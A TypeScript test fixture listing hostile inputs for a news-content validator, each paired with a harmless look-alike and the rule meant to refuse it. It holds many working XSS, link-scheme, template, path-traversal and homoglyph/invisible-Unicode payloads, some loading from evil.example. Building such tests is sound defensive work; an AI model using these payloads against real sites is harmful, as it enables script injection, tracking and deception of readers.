/*
 * What a hostile contributor may write. To add a vector, add a line: where it stands, the text, and a harmless text
 * that looks like it (the twin), which readers must get as it was typed. With `rule` the check must refuse it by that
 * rule; without, it is published and must be no more than text. `call()` is what it would run.
 */

/** A text that is put somewhere in a content folder. */
export interface Vector {
  readonly category: string;
  readonly hostile: string;
  readonly twin: string;
  /** The rule by which it is refused. */
  readonly rule?: string;
}

/** Put into every string of every kind of file; none may do more than be read. */
export const payloads: readonly Vector[] = [
  [
    'out of elements',
    '</title></p></main><script>call()</script><img src=x onerror=call()>',
    'a < b > c / d',
  ],
  ['out of attributes', `" autofocus onfocus=call() x="' onclick='call()' style='top:0`, `"Yes", 'no' & x=5`],
  ['out of data blocks', '</script><!--<script>]]>--></style><svg onload=call()>', 'the <end> of [[it]]'],
  ['out of templates', '{{call()}}$\u007Bcall()}<%=call()%>{call()}{%x%}', '{1} and $2 at 5 %'],
  ['out of rows and lines', `=call();"x",'\\nEND:VEVENT\\r\\nATTACH:x;,\\\\`, 'a;b,c "d" \\n e'],
  ['out of addresses', '//evil.example/?a=b&c#d javascript:call() data:text/html,x', 'see a.example, b: c'],
].map(([category = '', hostile = '', twin = '']) => ({ category, hostile, twin }));

const html = (hostile: string): Vector => ({
  category: 'HTML in a text',
  hostile,
  // The same signs as words of the text.
  twin: `\`${hostile}\``,
  rule: 'raw-html',
});

const link = (target: string, rule: string): Vector => ({
  category: 'addresses of links',
  hostile: `[words](${target})`,
  twin: `[words](https://host.example/${target.length})`,
  rule,
});

const kept = (category: string, hostile: string, twin: string): Vector => ({ category, hostile, twin });

const refused = (category: string, hostile: string, twin: string, rule: string): Vector => ({
  category,
  hostile,
  twin,
  rule,
});

/** Put into the text of an update, each as a paragraph of its own. */
export const texts: readonly Vector[] = [
  html('<script>call()</script>'),
  html('<ScRiPt src=//evil.example/a.js></sCrIpT>'),
  html('<img src=x onerror=call()>'),
  html('<svg><script>call()</script></svg>'),
  html('<math><mtext><style><img src=x onerror=call()></style></mtext></math>'),
  html('<iframe srcdoc="<script>parent.call()</script>"></iframe>'),
  html('<object data="data:text/html,x"></object>'),
  html('<embed src="https://evil.example/a">'),
  html('<form action="https://evil.example/"><button>Go on</button></form>'),
  html('<input autofocus onfocus=call()>'),
  html('<details open ontoggle=call()>x</details>'),
  html('<video autoplay src="https://evil.example/a"></video>'),
  html('<audio src=x onerror=call()></audio>'),
  html('<body onload=call()>'),
  html('<base href="https://evil.example/">'),
  html('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  html('<link rel="stylesheet" href="https://evil.example/a.css">'),
  html('<link rel="preconnect" href="https://evil.example/">'),
  html('<style>body { display: none }</style>'),
  html('<p style="position:fixed;inset:0">The whole page</p>'),
  html('<p class="skip">Skip</p>'),
  html('<h1 id="main">Another headline</h1>'),
  html('<a name="main" id="document">x</a>'),
  html('<header role="banner">The Other News</header>'),
  html('<template><img src=x onerror=call()></template>'),
  html('<!-- hidden words -->'),
  html('<?php call() ?>'),
  html('<![CDATA[<img src=x onerror=call()>]]>'),
  html('<x-y onclick=call()>x</x-y>'),
  html('<a href="javascript:call()">x</a>'),
  link('javascript:call()', 'bad-link'),
  link('JaVaScRiPt:call()', 'bad-link'),
  link('java&#115;cript:call()', 'bad-link'),
  link('vbscript:call()', 'bad-link'),
  link('data:text/html,x', 'bad-link'),
  link('file:///etc/passwd', 'bad-link'),
  link('blob:https://evil.example/1', 'bad-link'),
  link('//evil.example/a', 'bad-link'),
  link('https://who:secret@evil.example/', 'bad-link'),
  link('person:nobody"onclick="call()', 'bad-link'),
  link('#main', 'bad-link'),
  refused('images from elsewhere', '![x](https://evil.example/track.gif)', '`![x](track.gif)`', 'bad-image'),
  refused('images from elsewhere', '![x](data:image/svg+xml,x)', '`![x](data)`', 'bad-image'),
  refused('images from elsewhere', '![x](../../site.yaml)', '`![x](site.yaml)`', 'bad-image'),
  refused('unseen characters', 'a\u202Eb', 'a “b”', 'invisible-character'),
  refused('unseen characters', 'a\u2067b', 'a – b', 'invisible-character'),
  refused('unseen characters', 'a\u200Eb', 'שלום\u200E (a)', 'invisible-character'),
  refused('unseen characters', 'a\u200Bb', 'a\u00A0b', 'invisible-character'),
  refused('unseen characters', 'a\u200Db', '👩\u200D👧', 'invisible-character'),
  refused('unseen characters', 'a\u200Cb', 'می\u200Cخواهم', 'invisible-character'),
  refused(
    'unseen characters',
    'a\u{E0041}\u{E0042}',
    '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
    'invisible-character',
  ),
  refused('unseen characters', 'a\uFE0F\uFE0E', '❤\uFE0F', 'invisible-character'),
  refused('unseen characters', 'a\u{E0101}b', '葛', 'invisible-character'),
  refused('unseen characters', 'a\u3164b', '한국', 'invisible-character'),
  refused('unseen characters', 'a\u2063b', 'a·b', 'invisible-character'),
  refused('unseen characters', 'a&#x202E;b', 'a&amp;b', 'invisible-character'),
  refused('disguised words', 'Rubi\u043E', 'Рубио', 'mixed-scripts'),
  refused('disguised words', 'Z\u0435l\u0435nskyy', 'Зеленський', 'mixed-scripts'),
  refused('disguised words', '\u0391nkara', 'Άγκυρα', 'mixed-scripts'),
  refused('disguised words', `a${'\u0301'.repeat(30)}`, 'Việt Nam', 'piled-marks'),
  kept('signs as words', '<svg/onload=call()>', '5 <6/7'),
  kept('signs as words', '&lt;script&gt;call()&lt;/script&gt;', '&lt;b&gt;'),
  kept('signs as words', '`<script>call()</script>`', '`<b>`'),
  kept('signs as words', '```html" onclick="call()\n<script>call()</script>\n```', '```\n<b>\n```'),
  kept(
    'addresses that are kept',
    '[words](https://evil.example/"onmouseover="call())',
    '[words](https://a.example)',
  ),
  refused(
    'addresses of links',
    '[words](<https://evil.example/<script>call()>)',
    '[words](https://a.example)',
    'broken-link',
  ),
  kept(
    'addresses that are kept',
    '[words](mailto:a@b.example?subject="onclick="call())',
    '[words](mailto:a@b.example)',
  ),
  kept('headings', '## main', '## Main'),
  kept('headings', '## document', '## Documents'),
  kept('headings', '## " onclick="call()', '## “Quoted”'),
  kept('headings', '## \\<script>call()\\</script>', '## A \\< B'),
  kept('tables', '| " onclick="call() |\n| --- |\n| \\<b> |', '| a |\n| --- |\n| b |'),
  kept('long words', 'A'.repeat(400), 'A long word'),
];

const field = (slot: string, hostile: string, twin: string, rule: string) =>
  ({ category: `field ${slot}`, slot, hostile, twin, rule }) as const;

/** Put into one field, and refused there. */
export const fields = [
  field('person.name', 'Marco Rubi\u043E', 'Марко Рубио', 'mixed-scripts'),
  field('person.name', 'Marco\u200BRubio', 'Marco-Rubio', 'invisible-character'),
  field('person.familyName', 'Rubio\u202E', 'Rubio', 'invisible-character'),
  field('person.alias', 'Rub\u{E0069}io', 'Rubio A', 'invisible-character'),
  field('person.native', 'Rub\u0456o', 'Рубио', 'mixed-scripts'),
  field('person.description', 'a\u2066b', 'a b', 'invisible-character'),
  field('person.role', 'a\nb', 'a b', 'wrong-value'),
  field('organization.name', 'Bank\u00AD\u2060', 'Bank', 'invisible-character'),
  field('organization.description', `a${'\u0335'.repeat(9)}`, 'ä', 'piled-marks'),
  field('place.name', 'Kyiv\u3164', 'Kyiv', 'invisible-character'),
  field('place.description', 'a\rb', 'a b', 'invisible-character'),
  field('site.name', 'The H\u0430rbour', 'Гавань', 'mixed-scripts'),
  field('site.tagline', 'a\u2028b', 'a b', 'invisible-character'),
  field('site.description', 'a\u0007b', 'a b', 'invisible-character'),
  field('site.language', 'en" onclick="call()', 'en-GB', 'wrong-value'),
  field('site.timeZone', '../../etc/passwd', 'Europe/Istanbul', 'wrong-value'),
  field('site.authority', 'a.example,2025"><script>', 'a.example,2025', 'wrong-value'),
  field('briefing.headline', 'a\u202Eb', 'a b', 'invisible-character'),
  field('briefing.summary', 'a\u200Fb', 'שלום\u200F!', 'invisible-character'),
  field('briefing.keyPoint', '**a** <img src=x onerror=call()>', '**a** \\<img>', 'raw-html'),
  field('briefing.keyPoint', '[a](javascript:call())', '[a](https://a.example)', 'bad-link'),
  field('event.text', '<script>call()</script>', 'a \\<b>', 'block-in-line'),
  field('event.title', 'a\u200Bb', 'a b', 'invisible-character'),
  field('event.id', 'x" onclick="call()', 'xy', 'wrong-value'),
  field('event.date', '2025-05-15"><script>', '2025-05-15', 'wrong-value'),
  field('statement.says', 'a\u2067b', 'a b', 'invisible-character'),
  field('statement.quote', 'a\u061Cb', 'a b', 'invisible-character'),
  field('question.asks', 'a\uFFF9b', 'a b', 'invisible-character'),
  field('commitment.says', 'a\u180Eb', 'a b', 'invisible-character'),
  field('side.name', 'Th\u0435 town', 'The town', 'mixed-scripts'),
  field('source.publisher', 'R\u0435uters', 'Reuters', 'mixed-scripts'),
  field('source.title', 'a\uFEFFb', 'a b', 'invisible-character'),
  field('source.url', 'javascript:call()', 'https://a.example/', 'wrong-value'),
  field('source.url', 'https://a:b@evil.example/', 'https://a.example/b', 'wrong-value'),
  field('source.url', 'data:text/html,x', 'https://a.example/x', 'wrong-value'),
  field('source.url', 'https://a.example/ onclick=call()', 'https://a.example/c', 'wrong-value'),
  field('update.title', 'a\u2064b', 'a b', 'invisible-character'),
  field('update.note', 'a\nb', 'a b', 'wrong-value'),
  field('correction.why', '<svg onload=call()>', 'a \\<svg>', 'block-in-line'),
] as const;

/** Names of files, and the rule that refuses each. */
export const names: readonly (readonly [path: string, twin: string, rule: string])[] = [
  ['people/"><script>call()<.md', 'people/script-call.md', 'slug'],
  ['people/<img src=x onerror=call()>.md', 'people/img-src-x.md', 'slug'],
  ["people/a' onclick='call().md", 'people/a-onclick.md', 'slug'],
  ['people/a\u202Edm.exe.md', 'people/a-exe.md', 'slug'],
  ['people/rubi\u043E.md', 'people/rubio.md', 'slug'],
  ['people/index.md', 'people/indexes.md', 'reserved-slug'],
  ['people/a.html', 'people/a-html.md', 'wrong-extension'],
  ['people/a%2Fb.md', 'people/a.md', 'slug'],
  ['briefings/b-0/x.svg', 'briefings/b-0/x.gif', 'stray-file'],
  ['briefings/b-0/x.js', 'briefings/b-0/y.gif', 'stray-file'],
  ['_headers', 'people/headers.md', 'stray-file'],
  ['index.html', 'people/html.md', 'stray-file'],
];
